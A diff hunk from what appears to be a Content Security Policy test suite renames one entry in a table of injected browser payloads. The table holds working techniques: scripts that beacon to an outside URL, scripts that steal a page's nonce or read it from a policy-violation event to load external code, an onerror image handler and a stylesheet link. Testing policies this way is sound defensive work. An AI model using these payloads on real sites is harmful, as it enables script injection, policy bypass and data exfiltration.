@@ -102,7 +102,7 @@ const inDocuments: Attacks = {
     `const made = document.createElement('script'); made.textContent = "new Image().src='${out}/a'"; document.body.append(made);`,
   'script with the nonce of a violation': out =>
     `addEventListener('securitypolicyviolation', event => { const nonce = /nonce-([^']+)/.exec(event.originalPolicy)?.[1]; const made = document.createElement('script'); made.nonce = nonce ?? ''; made.src = '${out}/a.js'; document.body.append(made); }); const first = document.createElement('script'); first.src = '${out}/b.js'; document.body.append(first);`,
-  'script with a nonce that stands there': out =>
+  'script with a nonce of the page': out =>
     `const made = document.createElement('script'); made.nonce = [...document.querySelectorAll('script')].map(each => each.nonce).find(each => each) ?? ''; made.src = '${out}/a.js'; document.body.append(made);`,
   handler: out => element(`<img src="data:," onerror="new Image().src='${out}/a'">`),
   'style link': out => element(`<link rel="stylesheet" href="${out}/a">`),
